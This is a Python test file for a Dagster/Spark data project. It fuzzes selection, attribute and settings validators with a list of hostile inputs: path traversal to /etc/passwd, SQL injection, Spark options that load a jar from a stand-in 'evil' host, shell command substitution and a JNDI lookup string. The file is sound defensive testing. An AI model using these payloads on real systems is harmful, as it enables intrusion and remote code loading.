"""Values that try to get out of their place: refused in a sentence, or passed on as they are."""

import os
import string
import subprocess
import tempfile
from pathlib import Path

import dagster as dg
import pytest
from dotenv import dotenv_values
from hypothesis import given, settings
from hypothesis import strategies as st
from pydantic import ValidationError
from pyspark.sql import SparkSession

from sparkpar_assets.components.attributes import AggregationAttributes
from sparkpar_assets.definitions import defs
from sparkpar_assets.materialize import SelectionError, selection
from sparkpar_assets.partitions import TAXI_YEARS
from sparkpar_assets.project import PROJECT_ROOT
from sparkpar_assets.resources.spark_configuration import launch_environment, spark_properties
from sparkpar_assets.settings import load_settings, variable_names

HOSTILE = [
    "../../etc/passwd",
    "2018/../../x",
    "'; DROP TABLE trips; --",
    "` UNION ALL SELECT * FROM secrets --",
    '" -Dspark.jars=http://evil/x.jar "',
    "x --conf spark.driver.extraJavaOptions=-javaagent:evil.jar",
    "$(touch evil)",
    "`touch evil`",
    "; touch evil #",
    "${jndi:ldap://evil/x}",
    "{{ env.SECRET }}",
    "a\nspark.jars=evil.jar",
    "\\",
    " leading",
    "%2e%2e%2f",
    "2018...2019...2020",
    "--help",
]
anything = st.sampled_from(HOSTILE) | st.text(max_size=30)
printable = st.sampled_from([one for one in HOSTILE if "\n" not in one]) | st.text(
    string.ascii_letters + string.digits + " '\"\\$`;&|<>(){}[]*?!#~=%+,./:@^-_", max_size=40
)
EXAMPLE = {
    "asset": "by_category",
    "table": "project.dataset.table",
    "group_by": ["category"],
    "metrics": {"rows": "count(*)"},
}


def selected(asset: str, partition: str | None) -> tuple[list[str], str]:
    """The options of Dagster's command, or the sentence with which they are refused."""
    try:
        return selection(defs, asset, partition), ""
    except SelectionError as error:
        return [], str(error)


@settings(deadline=None)
@given(anything)
def test_a_partition_is_a_year_or_is_refused_in_a_sentence(text: str) -> None:
    options, refusal = selected("fare_by_passenger_count", text)
    if options:
        assert set(options[-1].split("...")) <= set(TAXI_YEARS.get_partition_keys())
    else:
        assert refusal.endswith(".")


@settings(deadline=None)
@given(anything)
def test_an_asset_of_any_other_name_is_refused_in_a_sentence(text: str) -> None:
    options, refusal = selected(text, None)
    if options:
        assert dg.AssetKey.from_user_string(options[1]) in defs.resolve_all_asset_keys()
    else:
        assert refusal.endswith(".")


@settings(deadline=None)
@given(st.sampled_from(["asset", "table", "path", "year_column", "group"]), anything)
def test_a_name_in_an_analysis_stays_in_its_folder_and_its_query(field: str, text: str) -> None:
    try:
        found = AggregationAttributes.model_validate(EXAMPLE | {field: text})
    except ValidationError:
        return  # the loader says file and line
    value = str(getattr(found, field))
    assert not set(value) & set("'\"`;\\\n\r()<>|&#%@=")
    assert ".." not in value.split("/")
    assert not value.startswith(("/", "-"))


@settings(deadline=None)
@given(st.sampled_from(variable_names()), anything)
def test_a_setting_ends_no_line_and_no_option(name: str, text: str) -> None:
    try:
        found = load_settings({name: text})
    except ValidationError:
        return
    assert not any(
        "\n" in value or "\r" in value for value in found.as_environment().values() if value
    )
    if name == "S3_PREFIX":
        assert ".." not in found.s3_root.split("/")
    configuration = spark_properties(found, "application", Path("/scratch"))
    assert set(configuration) <= set(_all_configured())
    assert configuration["spark.driver.extraJavaOptions"].count('"') % 2 == 0 or name.endswith(
        "JAVA_OPTIONS"  # which are there to be options
    )


def _all_configured() -> dict[str, str]:
    every = {
        "SPARK_AUTH_SECRET_FILE": "f",
        "AWS_ENDPOINT_URL_S3": "http://s3",
        "SPARK_CORES_MAX": "2",
    }
    every |= {"SPARK_EVENT_LOG_DIR": "f", "SPARK_DRIVER_HOST": "h", "AWS_DEFAULT_REGION": "r"}
    every |= {"GOOGLE_APPLICATION_CREDENTIALS": "f"}
    return spark_properties(load_settings(every), "application", Path("/scratch"))


@pytest.mark.parametrize(
    ("name", "value"),
    [("S3_PREFIX", "../other"), ("S3_PREFIX", "a/./b"), ("TLS_TRUST_STORE", '/a" -javaagent:x "')],
)
def test_a_path_that_leads_out_is_refused_with_its_variable(name: str, value: str) -> None:
    with pytest.raises(ValidationError, match=name):
        load_settings({name: value})


@settings(max_examples=50, deadline=None)
@given(secret=printable.filter(str.strip))
def test_java_reads_a_secret_as_it_was_given_and_no_other_property(
    spark: SparkSession, secret: str
) -> None:
    values = {"AWS_ACCESS_KEY_ID": "key", "AWS_SECRET_ACCESS_KEY": secret}
    with (
        tempfile.TemporaryDirectory() as folder,
        launch_environment(load_settings(values), "/java", Path(folder)),
    ):
        text = (Path(folder) / "spark.properties").read_text()
    jvm = spark._jvm  # PySpark's own way to Java
    assert jvm is not None
    read = jvm.java.util.Properties()
    read.load(jvm.java.io.StringReader(text))
    ours = {name: read[name] for name in read if name.startswith("spark.hadoop.fs.s3a")}
    assert ours == {
        "spark.hadoop.fs.s3a.access.key": "key",
        "spark.hadoop.fs.s3a.secret.key": secret,
    }


@settings(max_examples=25, deadline=None)
@given(st.lists(printable.filter(lambda text: "'" not in text), min_size=1, max_size=8))
def test_what_stands_in_a_dotenv_file_is_cut_out_as_text_and_never_run(values: list[str]) -> None:
    script = (
        'set -euo pipefail; PROJECT="$1"; source "$2/setup.sh"; source "$2/docker/compose.sh"\n'
        'for name in "${@:3}"; do value_in_env "$name"; done'
    )
    names = [f"V{number}" for number in range(len(values))]
    with tempfile.TemporaryDirectory() as folder:
        env = Path(folder) / ".env"
        env.write_text("".join(f"{n}='{v}'\n" for n, v in zip(names, values, strict=True)))
        done = subprocess.run(
            ["/bin/bash", "-c", script, "bash", folder, str(PROJECT_ROOT), *names],
            cwd=folder,
            env={"PATH": os.environ["PATH"]},
            capture_output=True,
            text=True,
            timeout=60,
            check=True,
        )
        assert [file.name for file in Path(folder).iterdir()] == [".env"]
        assert done.stdout.splitlines() == [value or "" for value in values]
        read = dotenv_values(env, interpolate=False)
    if "\\" not in "".join(values):  # which python-dotenv takes for an escape
        assert list(read.values()) == values


def test_run_sh_evaluates_no_value() -> None:
    for name in ("run.sh", "setup.sh", "docker/compose.sh", "docker/entrypoint.sh"):
        lines = (PROJECT_ROOT / name).read_text().splitlines()
        code = [line for line in lines if not line.lstrip().startswith("#")]
        assert not [line for line in code if line.lstrip().startswith(("eval ", ". ./.env"))], name
        assert not [line for line in code if "source" in line and ".env" in line.split("source")[1]]
